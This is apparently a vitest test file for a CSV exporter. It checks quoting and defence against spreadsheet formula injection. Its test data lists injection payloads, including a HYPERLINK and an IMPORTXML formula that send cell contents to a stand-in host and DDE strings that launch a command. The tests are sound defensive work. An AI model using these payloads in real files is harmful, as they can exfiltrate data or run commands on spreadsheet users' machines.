import { expect, test } from "vitest";
import { csvCell, toCsv } from "./csv.js";

test("rows become lines under one header", () => {
  const csv = toCsv({
    rows: [
      {
        touchpoint: "hr.benefits-paperwork",
        week: "2026-W47",
        instrument: "outcome5",
        audience: null,
        provider: null,
        shown: true,
        answered: 12,
        top2: { share: 0.75, low: 0.47, high: 0.91 },
        band: null,
        responseRate: null,
      },
      { touchpoint: "it.access-request", week: "2026-W47", shown: false },
    ],
  });
  expect(csv.split("\r\n")).toEqual([
    "touchpoint,week,instrument,audience,provider,shown,answered,top2_share,top2_low,top2_high,band_low,band_high,response_rate",
    "hr.benefits-paperwork,2026-W47,outcome5,,,true,12,0.75,0.47,0.91,,,",
    "it.access-request,2026-W47,,,,false,,,,,,,",
    "",
  ]);
});

test("a row that is not shown has nothing but its touchpoint and week", () => {
  const odd = { touchpoint: "a", week: "2026-W47", shown: false as const, answered: 4 };
  expect(toCsv({ rows: [odd] })).not.toContain("4,");
});

test.each([
  ["plain", "plain"],
  ["a,b", '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ["two\nlines", '"two\nlines"'],
  [" padded ", '" padded "'],
  ["", ""],
])("the text %j is written %j", (value, cell) => {
  expect(csvCell(value)).toBe(cell);
});

test.each([0, -1, 0.5, -0.25, true, false])("%j stays what it is", (value) => {
  expect(csvCell(value)).toBe(String(value));
});

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"];
const LEAD_INS = ["", " ", '"', "'", ",", "\n", "\uFEFF", "\u00A0", "\u200B"];
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "\t=1+1",
  "\r\n=1+1",
  '"\r\n=1+1',
  '","=1+1',
  ";=1+1",
  '";"=1+1',
  "＝1＋1",
  "-",
];
const TEXTS = [...TRIGGERS.flatMap((trigger) => LEAD_INS.map((leadIn) => `${leadIn}${trigger}1+1`)), ...FORMULAS];

/** What RFC 4180 makes of a file: one character after the other. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[""]];
  let quoted = false;
  for (let at = 0; at < csv.length; at++) {
    const cells = rows.at(-1) ?? [];
    const add = (text: string) => void (cells[cells.length - 1] += text);
    if (quoted && csv.startsWith('""', at)) add(csv.charAt(at++));
    else if (csv[at] === '"') quoted = !quoted;
    else if (quoted) add(csv.charAt(at));
    else if (csv[at] === ",") cells.push("");
    else if (csv.startsWith("\r\n", at)) {
      rows.push([""]);
      at++;
    } else add(csv.charAt(at));
  }
  return rows.slice(0, -1);
}

test.each(TEXTS.map((text) => [text]))("T9: a spreadsheet takes %j for text", (value) => {
  const [[read = ""] = []] = parse(`${csvCell(value)}\r\n`);
  expect([value, `'${value}`]).toContain(read);
});

test(`T9: ${TEXTS.length} texts in two columns come back as they were, in their own cells, and numbers stay numbers`, () => {
  const rows = TEXTS.map((text, index) => ({
    touchpoint: text,
    week: "2026-W47",
    instrument: "outcome5" as const,
    audience: null,
    provider: text,
    shown: true as const,
    answered: 12,
    top2: { share: -0.5, low: index, high: 1e-7 },
    band: null,
    responseRate: null,
  }));
  const [header, ...lines] = parse(toCsv({ rows }));
  expect(lines).toHaveLength(TEXTS.length);
  lines.forEach((cells, index) => {
    const { touchpoint, provider, top2_share, top2_low, top2_high } = Object.fromEntries(
      cells.map((cell, column) => [header?.[column] ?? "", cell]),
    );
    expect([TEXTS[index], `'${TEXTS[index]}`]).toContain(touchpoint);
    expect(provider).toBe(touchpoint);
    expect([top2_share, top2_low, top2_high]).toEqual(["-0.5", String(index), "1e-7"]);
    // Neither at its begin nor behind what a spreadsheet looks past.
    expect(touchpoint).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@\t\r\0＝＋－＠]/u);
  });
});
